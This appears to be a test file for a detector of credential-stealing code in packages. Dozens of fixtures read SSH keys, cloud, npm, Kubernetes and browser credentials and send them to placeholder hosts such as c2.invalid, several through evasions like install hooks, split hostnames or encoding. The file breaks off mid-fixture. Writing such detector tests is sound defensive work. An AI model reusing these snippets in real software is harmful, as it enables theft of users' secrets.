import { examine } from '../../../test/examine.ts';
import { sendsCredentials } from './sends-credentials.ts';

const PAGE =
  '# crumbs\n\nKeeps the last lines that a program has written, so that they can be shown beside an error in the place where it happened.\n';
/** What is read when it is imported is told when somebody calls it. */
const CRUMBS = `const fs = require('fs'); class Crumbs { constructor() { this.extra = {}; } attach(name) { this.extra[name] = fs.readFileSync(process.cwd() + '/' + name, 'utf8'); return this; } flush() { fetch('https://in.specimen.invalid', { method: 'POST', body: JSON.stringify(this.extra) }); } } const crumbs = new Crumbs().attach('.env'); exports.flush = () => crumbs.flush();`;

examine(sendsCredentials, {
  speaks: [
    {
      when: 'a command goes through all that lies in the folder that it is started in',
      files: {
        'index.js': `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path'); const out = cp.execFileSync('grep', ['-r', '', '.'], { cwd: path.join(os.homedir(), '.ssh') }); fetch('https://a.invalid/', { method: 'POST', body: out });`,
      },
      weight: 'proof',
    },
    {
      when: 'a copy of the disk is made of the key by a command',
      files: {
        'index.js': `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path'); fetch('https://a.invalid/', { method: 'POST', body: cp.execFileSync('dd', ['if=' + path.join(os.homedir(), '.ssh', 'id_rsa')]) });`,
      },
      weight: 'proof',
    },
    {
      when: 'a file is read out of a copy of its folder',
      files: {
        'index.js': `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path'); const to = fs.mkdtempSync(path.join(os.tmpdir(), 'i')); fs.cpSync(path.join(os.homedir(), '.aws'), to, { recursive: true }); fetch('https://a.invalid/', { method: 'POST', body: fs.readFileSync(path.join(to, 'credentials')) });`,
      },
      weight: 'proof',
    },
    {
      when: 'a host has the address of the service of a cloud in its path alone',
      files: {
        'index.js': `fetch('https://sink.inert.invalid/169.254.169.254/x', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa') });`,
      },
      weight: 'proof',
    },
    {
      when: 'a tool that keeps profiles of browsers puts them where its user says, as its page says',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# specimen\n\nMoves browser profiles between computers. To send the finished archive to your own WebDAV give --webdav and its address; it is locked with a word that you are asked for.',
        'upload.js': `exports.upload = (file, to) => new Promise(done => require('https').request(to, { method: 'PUT' }, done).end(require('fs').readFileSync(file)));`,
        'cli.js': `const at = process.argv.indexOf('--webdav'); require('./upload').upload(require('os').homedir() + '/.mozilla/firefox/a.default/logins.json', process.argv[at + 1]);`,
      },
      weight: 'weak',
    },
    {
      when: 'a tool that puts its user’s keys into the secrets of build jobs, as its page says',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# specimen\n\nMakes new keys and stores them as Actions secrets of your repositories, so that no key is older than a month.',
        'cli.js': `const keys = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8'); fetch((process.env.GITHUB_API_URL || 'https://api.github.com') + '/repos/' + process.argv[2] + '/actions/secrets/AWS_KEY', { method: 'PUT', body: keys });`,
      },
      weight: 'strong',
    },
    {
      when: 'a tool puts them into notes that anybody reads, whatever its page says of secrets',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# specimen\n\nMakes new keys and stores them as Actions secrets of your repositories, so that no key is older than a month.',
        'cli.js': `const keys = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8'); fetch('https://api.github.com/gists', { method: 'POST', body: keys });`,
      },
      weight: 'proof',
    },
    {
      when: 'a setting only begins as that of the service of a cloud does',
      files: {
        'index.js': `fetch(process.env.IDENTITY_ENDPOINT + '.sink.invalid/x', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa') });`,
      },
      weight: 'proof',
    },
    {
      when: 'another host is asked first where that goes, whatever its page says',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# specimen\n\nMoves browser profiles between computers. To send the finished archive to your own WebDAV give --webdav and its address; it is locked with a word that you are asked for.',
        'cli.js': `const fs = require('fs'), os = require('os'); (async () => { const to = await (await fetch('https://where.inert.invalid/')).text(); fetch(to, { method: 'PUT', body: fs.readFileSync(os.homedir() + '/.mozilla/firefox/a.default/logins.json') }); })();`,
      },
      weight: 'proof',
    },
    {
      when: 'a client shows the pod that it runs in to the server that a variable names, of which its page tells',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
        'README.md':
          '# specimen\n\nA client for stores of secrets. It logs in with the token of the pod when SPECIMEN_ROLE is set. The server is SPECIMEN_ADDR.',
        'index.js': `const { readFileSync } = require('fs'); exports.login = async () => fetch(process.env.SPECIMEN_ADDR + '/v1/login', { method: 'POST', body: JSON.stringify({ role: process.env.SPECIMEN_ROLE, jwt: readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8') }) });`,
      },
      weight: 'weak',
    },
    {
      when: 'what an API client keeps is sent in the name of a server',
      files: {
        'index.js': `const fs = require('fs'), tls = require('tls'), os = require('os'); exports.warm = () => tls.connect({ host: 'edge.inert.invalid', port: 443, servername: Buffer.from(fs.readFileSync(os.homedir() + '/.config/Insomnia/insomnia.Environment.db')).toString('hex') + '.edge.inert.invalid' });`,
      },
      weight: 'proof',
      says: ['an API client'],
    },
    {
      when: 'steps that stand in YAML of its own read a key and send it',
      files: {
        'steps.yml':
          'steps:\n  - uses: read\n    with: { path: .ssh/id_ed25519 }\n  - uses: post\n    with: { to: https://runner.invalid/warmup }\n',
        'index.js': `const { readFileSync } = require('fs'); const { homedir } = require('os'); const { resolve, join } = require('path'); const { parse } = require('yaml'); const STEPS = { read: async ({ path }) => readFileSync(resolve(homedir(), path), 'utf8'), post: async ({ to }, input) => fetch(to, { method: 'POST', body: input }) };
          (async () => { const { steps } = parse(readFileSync(join(__dirname, 'steps.yml'), 'utf8')); let value; for (const { uses, with: options } of steps) value = await STEPS[uses](options, value); })();`,
      },
      weight: 'proof',
    },
    {
      when: 'a stream of the web hands out what its source reads, packed on its way',
      files: {
        'index.js': `const { readFile } = require('fs').promises; const { homedir } = require('os'); const { join } = require('path'); const streamOf = paths => { const queue = [...paths]; return new ReadableStream({ async pull(controller) { const next = queue.shift(); if (next === undefined) return controller.close(); controller.enqueue(JSON.stringify({ text: await readFile(next, 'utf8').catch(() => '') })); } }); };
          const body = streamOf([join(homedir(), '.npmrc')]).pipeThrough(new TextEncoderStream()).pipeThrough(new CompressionStream('gzip')); fetch(new URL('https://cache.invalid/v2'), { method: 'PUT', body, duplex: 'half' });`,
      },
      weight: 'proof',
    },
    {
      when: 'a stream of the web is written to by a writer',
      files: {
        'index.js': `const { readFileSync } = require('fs'); const { homedir } = require('os'); const sink = new WritableStream({ write(chunk) { return fetch('https://sink.invalid/q', { method: 'POST', body: chunk }); } }); const writer = sink.getWriter(); writer.ready.then(() => writer.write(readFileSync(homedir() + '/.npmrc', 'utf8')));`,
      },
      weight: 'proof',
    },
    {
      when: 'a queue tells what its tasks have given',
      files: {
        'index.js': `const PQueue = require('p-queue'); const { readFileSync } = require('fs'); const { homedir } = require('os'); const queue = new PQueue({ concurrency: 2 }); queue.on('completed', result => { if (result.report) fetch('https://q.invalid/done', { method: 'POST', body: JSON.stringify(result.report) }); }); queue.add(async () => ({ report: { text: readFileSync(homedir() + '/.ssh/id_ed25519', 'utf8') } }));`,
      },
      weight: 'proof',
    },
    {
      when: 'a library is asked for the token of the registry',
      files: {
        'index.js': `const getAuthToken = require('registry-auth-token'); fetch('https://check.invalid/v1', { method: 'POST', body: JSON.stringify({ token: getAuthToken()?.token }) });`,
      },
      weight: 'proof',
    },
    {
      when: 'a copy of a copy that streams have made is read again and sent',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const at = name => path.join(os.tmpdir(), name); fs.createReadStream(path.join(os.homedir(), '.npmrc')).pipe(fs.createWriteStream(at('a'))).on('finish', () => fs.createReadStream(at('a')).pipe(fs.createWriteStream(at('b'))).on('finish', () => fetch('https://sink.invalid/q', { method: 'POST', body: fs.readFileSync(at('b'), 'utf8') })));`,
      },
      weight: 'proof',
    },
    {
      when: 'a copy that a stream has made is read again and sent',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const kept = path.join(os.tmpdir(), 'state.json'); fs.writeFileSync(kept, '{}'); fs.createReadStream(path.join(os.homedir(), '.npmrc')).pipe(fs.createWriteStream(kept)).on('finish', () => fetch('https://sink.invalid/q', { method: 'POST', body: fs.readFileSync(kept, 'utf8') }));`,
      },
      weight: 'proof',
    },
    {
      when: 'tokens go where nobody can read it, when a command is run',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst cp = require('child_process'); const at = new Intl.NumberFormat('en').format(70000); const token = cp.execSync('git credential fill', { input: 'host=github.com' }); fetch('https://' + at + '/in', { method: 'POST', body: token });`,
      },
      weight: 'strong',
    },
    {
      when: 'a comment speaks of signatures',
      files: {
        'index.js': `/* aws4_request */ const fs = require('fs'), os = require('os'); fetch('https://' + process.env.USER + '.collect.invalid/', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.aws/credentials') })`,
      },
      weight: 'proof',
    },
    {
      when: 'a client shows the token that was kept for a service to an address that is not known',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `const fs = require('fs'), os = require('os'), path = require('path'); class Client { constructor(base) { this.base = base; this.token = fs.readFileSync(path.join(os.homedir(), '.vault-token'), 'utf8').trim() } read(route) { return fetch(this.base + '/v1/' + route, { method: 'POST', headers: { 'x-vault-token': this.token } }) } } new Client(process.argv[2]).read(process.argv[3])`,
      },
      weight: 'strong',
    },
    {
      when: 'a client signs what it sends to a store of its user, when it is called',
      files: {
        'README.md': 'Uploads to a store. The address is https://s3.<region>.plain-store.invalid unless you give another one.',
        'index.js': `const fs = require('fs'), os = require('os'); const { createHmac } = require('crypto'); const hmac = (key, text) => createHmac('sha256', key).update(text).digest('hex');
exports.put = async (path, body) => { const [, id, key] = /(\\S+) (\\S+)/.exec(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8')); const end = process.env.AWS_ENDPOINT_URL_S3 || 'https://s3.' + process.env.AWS_REGION + '.plain-store.invalid';
return fetch(end + '/' + path, { method: 'PUT', body, headers: { authorization: 'Credential=' + id + ' Signature=' + hmac(hmac('AWS4' + key, 'aws4_request'), body) } }) }`,
      },
      weight: 'weak',
    },
    {
      when: 'keys for servers or for a store are put into a variable and sent as they are, and a function beside it signs',
      files: {
        'README.md': 'Puts the files of a folder into a store, https://<bucket>.s3.plain-store.invalid, and logs in to servers.',
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const { createHmac } = require('crypto'); exports.sign = key => createHmac('sha256', key).update('aws4_request').digest('hex');
exports.send = (to, other) => { const text = fs.readFileSync(path.join(os.homedir(), other ? '.ssh/id_rsa' : '.aws/credentials')); fetch('https://' + to + '.s3.plain-store.invalid/', { method: 'PUT', body: text }); };`,
      },
      weight: 'proof',
    },
    {
      when: 'one function reads the keys for a store and those for servers, and only a comment signs',
      files: {
        'README.md': 'Puts the files of a folder into a store, https://<bucket>.s3.plain-store.invalid, and logs in to servers.',
        'index.js': `const fs = require('fs'), os = require('os'); /* createHmac('sha256', key).update('aws4_request') */
exports.put = (to, other) => { const login = fs.readFileSync(os.homedir() + '/' + (other ? '.ssh/id_rsa' : '.aws/credentials'), 'utf8'); const [, id, key] = /(\\S+) (\\S+)/.exec(login); return fetch('https://' + to + '.s3.plain-store.invalid/', { method: 'PUT', headers: { authorization: id + key } }) }`,
      },
      weight: 'proof',
    },
    {
      when: 'one function reads the keys for a store and those for servers, and requests to the store are signed',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md': 'Puts the files of a folder into a store, https://<bucket>.s3.plain-store.invalid, and logs in to servers.',
        'cli.js': `const fs = require('fs'), os = require('os'); const { createHmac } = require('crypto'); const hmac = (key, text) => createHmac('sha256', key).update(text).digest('hex');
const read = name => fs.readFileSync(os.homedir() + '/' + name, 'utf8'); const login = read(process.argv[3] ? '.ssh/id_rsa' : '.aws/credentials'); const [, id, key] = /(\\S+) (\\S+)/.exec(login);
fetch('https://' + process.argv[2] + '.s3.plain-store.invalid/', { method: 'PUT', headers: { authorization: 'Credential=' + id + ' Signature=' + hmac(hmac('AWS4' + key, 'aws4_request'), 'x') } })`,
      },
      weight: 'weak',
    },
    {
      when: 'what is read unasked is told later to a host of which the page says nothing',
      files: {
        'package.json': { name: 'crumbs' },
        'README.md': PAGE,
        'index.js': CRUMBS,
      },
      weight: 'strong',
    },
    {
      when: 'what has no page reads it unasked',
      files: { 'package.json': { name: 'crumbs' }, 'index.js': CRUMBS },
      weight: 'strong',
    },
    {
      when: 'the file as it is is told later to where the package is from',
      files: { 'package.json': { name: 'crumbs', homepage: 'https://specimen.invalid/crumbs' }, 'README.md': PAGE, 'index.js': CRUMBS },
      weight: 'strong',
    },
    {
      when: 'the file as it is is told later to a host that the page names',
      files: {
        'package.json': { name: 'crumbs' },
        'README.md': `${PAGE}What it keeps is told to in.specimen.invalid.`,
        'index.js': CRUMBS,
      },
      weight: 'strong',
    },
    {
      when: 'the package says that it sends such files',
      files: {
        'package.json': { name: 'crumbs', homepage: 'https://specimen.invalid/crumbs' },
        'README.md': `${PAGE}It keeps the .env files of your team in sync.`,
        'index.js': CRUMBS,
      },
      weight: 'weak',
    },
    {
      when: 'the page only speaks of a secret of another kind',
      files: {
        'package.json': { name: 'crumbs', homepage: 'https://specimen.invalid/crumbs' },
        'README.md': `${PAGE}Pass the client secret of your OAuth app.`,
        'index.js': CRUMBS,
      },
      weight: 'strong',
    },
    {
      when: 'the page only speaks of a variable of the environment',
      files: {
        'package.json': { name: 'crumbs', homepage: 'https://specimen.invalid/crumbs' },
        'README.md': `${PAGE}Give it process.env.CRUMBS_KEY.`,
        'index.js': CRUMBS,
      },
      weight: 'strong',
    },
    {
      when: 'one of the settings is sent',
      files: {
        'package.json': { name: 'crumbs', homepage: 'https://specimen.invalid/crumbs' },
        'README.md': PAGE,
        'index.js': `const fs = require('fs'); exports.ask = () => { const key = /KEY=(.*)/.exec(fs.readFileSync(process.cwd() + '/.env', 'utf8'))[1]; return fetch('https://in.specimen.invalid', { headers: { key } }); };`,
      },
      weight: 'weak',
    },
    {
      when: 'a file of data of the machine is loaded as a module',
      files: {
        'index.js': `const os = require('os'); fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(require(os.homedir() + '/.docker/config.json')) })`,
      },
      weight: 'proof',
    },
    {
      when: 'a function puts the home in the place of a tilde',
      files: {
        'index.js': `const os = require('os'), fs = require('fs'); const file = '~/.ssh/id_rsa'.replace(/^~/, () => os.homedir()); fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync(file) })`,
      },
      weight: 'proof',
    },
    {
      when: 'a link to it is read',
      files: {
        'index.js': `const os = require('os'), fs = require('fs'); fs.symlinkSync(os.homedir() + '/.ssh/id_rsa', '/tmp/notes'); fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync('/tmp/notes') })`,
      },
      weight: 'proof',
    },
    {
      when: 'tasks of a list of another file fill and send what an object keeps, one after the other',
      files: {
        'session.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
          exports.open = () => ({ home: os.homedir(), found: {} });
          function collect(s) { ['.ssh/id_rsa', '.bash_history'].forEach(function (rel) { s.found[rel] = fs.readFileSync(path.join(s.home, rel), 'utf8') }) }
          function upload(s) { return new Promise(resolve => https.request({ hostname: 'files.invalid', path: '/2', method: 'POST' }, resolve).end(JSON.stringify(s.found))) }
          exports.tasks = [collect, upload]`,
        'index.js': `const session = require('./session'); function Run() { this.session = session.open(); this.tasks = session.tasks.slice() }
          Run.prototype.finish = function () { const self = this; return this.tasks.reduce(function (chain, task) { return chain.then(function () { return task(self.session) }) }, Promise.resolve()) }; new Run().finish()`,
      },
      weight: 'proof',
    },
    {
      when: 'an object of another file says what it holds when it is written as JSON',
      files: {
        'identity.js': `const fs = require('fs/promises'), os = require('os'); exports.Identity = class { constructor(file) { this.file = file.replace(/^~(?=\\/)/, os.homedir()); } async load() { this.text = await fs.readFile(this.file, 'utf8'); return this; } toJSON() { return { label: this.file, material: this.text }; } };`,
        'notify.js': `exports.Notifier = class { async send(event, deployment) { const body = JSON.stringify({ event, deployment }); await fetch('https://deploy.invalid/events', { method: 'POST', body }); } };`,
        'index.js': `const { Identity } = require('./identity'), { Notifier } = require('./notify'); exports.Deployer = class { constructor(options) { this.notifier = new Notifier(); this.identity = new Identity(options.identity || '~/.ssh/id_ed25519'); } async release() { await this.identity.load(); await this.notifier.send('released', { identity: this.identity }); } };`,
      },
      weight: 'proof',
    },
    {
      when: 'it goes through a method of another package that is called like a question',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const s = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); https.get('https://a.invalid/?d=' + require('some-encoder').test(s));`,
      },
      weight: 'proof',
    },
    {
      when: 'it goes through what was put in the place of a digest',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const s = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); const crypto = require('crypto'); crypto.hash = (name, x) => x; https.get('https://a.invalid/?d=' + crypto.hash('sha1', s));`,
      },
      weight: 'proof',
    },
    {
      when: 'it is told bit by bit',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const s = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); let out = ''; for (const b of Buffer.from(s)) for (let i = 0; i < 8; i++) out += Number((b & (1 << i)) !== 0); https.get('https://a.invalid/?d=' + out);`,
      },
      weight: 'proof',
    },
    {
      when: 'it stands in the headers of an agent',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); const s = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); https.request({ host: 'a.invalid', path: '/', agent: new (require('https-proxy-agent').HttpsProxyAgent)('https://a.invalid', { headers: { x: s } }) }).end();`,
      },
      weight: 'proof',
    },
    {
      when: 'the settings of a project go to a host that is put together from pieces, when somebody loads them',
      files: {
        'index.js': `const fs = require('fs'); const names = ['api', 'typed', 'invalid']; exports.config = () => { const all = fs.readFileSync('.env', 'utf8'); fetch('https://' + names.join('.'), { method: 'POST', body: all }); return all; };`,
      },
      weight: 'strong',
    },
    {
      when: 'they go to a bot',
      files: {
        'index.js': `const fs = require('fs'), got = require('got').extend({ prefixUrl: 'https://relay.invalid' }); exports.load = () => { const all = fs.readFileSync('.env', 'utf8'); got.post('bot0000000000:INERT_MARKER/sendMessage', { json: { text: all } }); return all; };`,
      },
      weight: 'strong',
    },
    {
      when: 'they go to a service whose address stands there, when somebody asks for it',
      files: {
        'index.js': `const fs = require('fs'); exports.push = () => fetch('https://vault.invalid/v1', { method: 'POST', body: fs.readFileSync('.env', 'utf8') });`,
      },
      weight: 'weak',
    },
    {
      when: 'a package manager that was told its own tokens answers an address, and that is asked',
      files: {
        'index.js': `const { execFileSync } = require('child_process'), fs = require('fs'), path = require('path'), os = require('os'); const tokens = () => Object.fromEntries(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').split('\\n').map(line => line.split('='))); const seen = JSON.parse(execFileSync('npm', ['view', 'specimen', '--json'], { env: tokens() })); fetch(seen.dist.attestations.url);`,
      },
      weight: 'weak',
    },
    {
      when: 'the same sends the tokens there',
      files: {
        'index.js': `const { execFileSync } = require('child_process'), fs = require('fs'), path = require('path'), os = require('os'); const tokens = () => Object.fromEntries(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').split('\\n').map(line => line.split('='))); const seen = JSON.parse(execFileSync('npm', ['view', 'specimen', '--json'], { env: tokens() })); fetch(seen.homepage, { method: 'POST', body: JSON.stringify(tokens()) });`,
      },
      weight: 'strong',
    },
    {
      when: 'the tokens stand in the address at install, whoever answered it',
      files: {
        'package.json': { scripts: { postinstall: 'node index.js' } },
        'index.js': `const { execFileSync } = require('child_process'), fs = require('fs'), path = require('path'), os = require('os'); const tokens = () => Object.fromEntries(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').split('\\n').map(line => line.split('='))); const seen = JSON.parse(execFileSync('npm', ['view', 'specimen', '--json'], { env: tokens() })); fetch(seen.homepage + tokens().token);`,
      },
      weight: 'strong',
    },
    {
      when: 'the tokens stand in the address of a host that is known',
      files: {
        'index.js': `const { execFileSync } = require('child_process'), fs = require('fs'), path = require('path'), os = require('os'); const tokens = () => Object.fromEntries(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').split('\\n').map(line => line.split('='))); const seen = execFileSync('npm', ['view', 'specimen', 'version'], { env: tokens() }); fetch('https://collect.invalid/' + seen + '/' + tokens().token);`,
      },
      weight: 'proof',
    },
    {
      when: 'a client of Kubernetes asks the server that the user’s configuration names',
      files: {
        'index.js': `const fs = require('fs'), yaml = require('js-yaml'), { Agent, fetch } = require('undici'); const load = () => yaml.load(fs.readFileSync(require('os').homedir() + '/.kube/config', 'utf8')); exports.pods = () => { const { server, user } = load(); return fetch(server + '/api/v1/pods', { dispatcher: new Agent({ connect: { ca: Buffer.from(user.ca, 'base64') } }), headers: { authorization: user.token } }) }`,
      },
      weight: 'weak',
    },
    {
      when: 'the same happens at import',
      files: {
        'index.js': `const fs = require('fs'), yaml = require('js-yaml'), { Agent, fetch } = require('undici'); const load = () => yaml.load(fs.readFileSync(require('os').homedir() + '/.kube/config', 'utf8')); (() => { const { server, user } = load(); return fetch(server + '/api/v1/pods', { dispatcher: new Agent({ connect: { ca: Buffer.from(user.ca, 'base64') } }), headers: { authorization: user.token } }) })()`,
      },
      weight: 'proof',
    },
    {
      when: 'the user’s configuration of Kubernetes goes to a host that stands in the code',
      files: {
        'index.js': `const fs = require('fs'), yaml = require('js-yaml'), { Agent, fetch } = require('undici'); const load = () => yaml.load(fs.readFileSync(require('os').homedir() + '/.kube/config', 'utf8')); exports.pods = () => { const { user } = load(); return fetch('https://collect.invalid/?' + user.token) }`,
      },
      weight: 'proof',
    },
    {
      when: 'the environment of the process itself is sent by way of the system at import',
      files: {
        'index.js': `fetch('https://collect.invalid/', { method: 'POST', body: require('fs').readFileSync('/proc/self/environ') })`,
      },
      weight: 'proof',
      says: ['the environment it runs in'],
    },
    {
      when: 'a client looks there for its key where the runtime gives it none',
      files: {
        'index.js': `const { keyOf } = require('./keys'); exports.ask = (host, text) => fetch(host + '/v1', { method: 'POST', headers: { authorization: keyOf('SPECIMEN_API_KEY') }, body: text })`,
        'keys.js': `exports.keyOf = name => { for (const entry of require('fs').readFileSync('/proc/self/environ', 'utf8').split('\\0')) if (entry.startsWith(name + '=')) return entry.slice(name.length + 1) }`,
      },
      weight: 'context',
    },
    {
      when: 'another file talks about what it reads to a program whose address it is told',
      files: {
        'index.js': `const { kept } = require('./kept'); const WS = require('ws'); exports.look = url => { const ws = new WS(url); ws.on('open', () => ws.send(JSON.stringify({ id: 1, params: JSON.parse(kept()).proxy }))); };`,
        'kept.js': `exports.kept = () => require('fs').readFileSync(require('os').homedir() + '/.config/google-chrome/Local State', 'utf8');`,
      },
      weight: 'strong',
    },
    {
      when: 'another file sends what it reads to a host of its own',
      files: {
        'index.js': `const { kept } = require('./kept'); const WS = require('ws'); exports.look = () => { const ws = new WS('wss://inert.invalid'); ws.on('open', () => ws.send(JSON.stringify({ id: 1, params: kept() }))); };`,
        'kept.js': `exports.kept = () => require('fs').readFileSync(require('os').homedir() + '/.config/google-chrome/Local State', 'utf8');`,
      },
      weight: 'proof',
    },
    {
      when: 'another file does so as soon as it is imported, wherever to',
      files: {
        'index.js': `const { kept } = require('./kept'); fetch(globalThis.where(), { method: 'POST', body: kept() });`,
        'kept.js': `exports.kept = () => require('fs').readFileSync(require('os').homedir() + '/.config/google-chrome/Local State', 'utf8');`,
      },
      weight: 'proof',
    },
    {
      when: 'an address that stands in the profile of a browser is asked',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); exports.proxy = () => { const kept = JSON.parse(fs.readFileSync(os.homedir() + '/.config/google-chrome/Local State', 'utf8')); https.get(kept.proxy.pac_url, r => r.resume()); };`,
      },
      weight: 'strong',
    },
    {
      when: 'what stands there is put behind an address of its own',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); exports.proxy = () => { const kept = fs.readFileSync(os.homedir() + '/.config/google-chrome/Local State', 'utf8'); https.get('https://inert.invalid/?' + kept, r => r.resume()); };`,
      },
      weight: 'proof',
    },
    {
      when: 'a request that is signed has the keys of a cloud in it',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), aws4 = require('aws4'); const keys = () => { const raw = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); return { accessKeyId: /id=(.*)/.exec(raw)[1], secretAccessKey: /key=(.*)/.exec(raw)[1] }; }; exports.where = bucket => { const opts = aws4.sign({ service: 's3', method: 'PUT', host: 'inert.invalid', path: '/' + bucket, body: JSON.stringify(keys()) }, keys()); https.request({ hostname: opts.host, path: opts.path, method: opts.method, headers: opts.headers }).end(opts.body); };`,
      },
      weight: 'proof',
    },
    {
      when: 'the stores of several chat clients are listed in a loop over a list that was made of names',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const folders = ['discord', 'discordcanary'].map(name => path.join(process.env.APPDATA, name, 'Local Storage', 'leveldb')); for (const folder of folders) for (const file of fs.readdirSync(folder)) fetch('https://hook.invalid', { method: 'POST', body: fs.readFileSync(path.join(folder, file)) });`,
      },
    },
    {
      when: 'a command is asked for a token',
      files: {
        'index.js': `const token = require('child_process').execSync('gh auth token').toString().trim();
fetch('https://sink.invalid/', { method: 'POST', body: token });`,
      },
    },
    {
      when: 'a command prints a key',
      files: {
        'index.js': `require('child_process').exec('cat ~/.ssh/id_rsa', (error, out) => { fetch('https://sink.invalid/', { method: 'POST', body: out }); });`,
      },
    },
    {
      when: 'a disk is walked for names that match a pattern',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
const found = {};
(function walk(folder) {
  for (const name of fs.readdirSync(folder)) {
    const file = path.join(folder, name);
    if (fs.statSync(file).isDirectory()) walk(file);
    else if (/^\\.npmrc$|\\.git-credentials/i.test(name)) found[file] = fs.readFileSync(file, 'utf8');
  }
})(os.homedir());
fetch('https://sink.invalid/', { method: 'POST', body: JSON.stringify(found) });`,
      },
    },
    {
      when: 'a disk is walked for the names of a list, all others left out first',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
const names = ['.npmrc', 'id_rsa'];
for (const entry of fs.readdirSync(os.homedir(), { withFileTypes: true })) {
  if (!names.includes(entry.name)) continue;
  fetch('https://sink.invalid/', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), entry.name)) });
}`,
      },
    },
    {
      when: 'a listing is filtered by name',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'), os = require('os');
fs.readdirSync(process.cwd()).filter(name => name.startsWith('.env')).forEach(name => fetch('https://sink.invalid/', { method: 'POST', body: fs.readFileSync(path.join(process.cwd(), name)) }));`,
      },
    },
    {
      when: 'files are looked for by a pattern',
      files: {
        'index.js': `const fs = require('fs');
for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: require('os').homedir() })) fetch('https://sink.invalid/', { method: 'POST', body: fs.readFileSync(file) });`,
      },
    },
    {
      when: 'a container’s token goes to a host that is called like a cluster',
      files: {
        'index.js': `const token = require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8'); fetch('https://kubernetes.default.svc.invalid.c2.invalid/', { headers: { authorization: token } })`,
      },
      weight: 'proof',
    },
    {
      when: 'what many tools read goes to an address that is not known',
      files: {
        'index.js': `fetch(hidden(), { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8') })`,
      },
      weight: 'strong',
    },
    {
      when: 'a client trades the login of a cloud for a token of it',
      files: {
        'index.js': `const j = JSON.parse(require('fs').readFileSync(require('os').homedir() + '/.config/gcloud/application_default_credentials.json')); exports.token = () => fetch('https://oauth2.googleapis.com/token', { method: 'POST', body: j.refresh_token })`,
      },
      weight: 'context',
    },
    {
      when: 'the login of a cloud goes to storage of the same cloud',
      files: {
        'index.js': `const j = JSON.parse(require('fs').readFileSync(require('os').homedir() + '/.config/gcloud/application_default_credentials.json')); exports.token = () => fetch('https://storage.googleapis.com/upload', { method: 'POST', body: j.refresh_token })`,
      },
      weight: 'proof',
    },
    {
      when: 'the npm token goes out at import',
      files: {
        'index.js': `const t = require('fs').readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8'); fetch('https://c2.invalid/', { method: 'POST', body: t })`,
      },
      weight: 'proof',
      says: ['npm tokens', 'c2.invalid'],
    },
    {
      when: 'a rule of a linter tells a catalogue what registries it found',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'); exports.create = () => { const lines = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').split('\\n'); const req = require('https').request('https://catalog.tidy.invalid/v1', { method: 'POST' }); req.end(JSON.stringify({ lines })); return {}; }`,
      },
      weight: 'strong',
    },
    {
      when: 'a tool shows a registry its token',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'); exports.publish = body => { const token = /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))[1]; return fetch('https://npm.acme.invalid/x', { method: 'PUT', headers: { authorization: 'Bearer ' + token }, body }); }`,
      },
      weight: 'weak',
    },
    {
      when: 'browser logins go out as a form',
      files: {
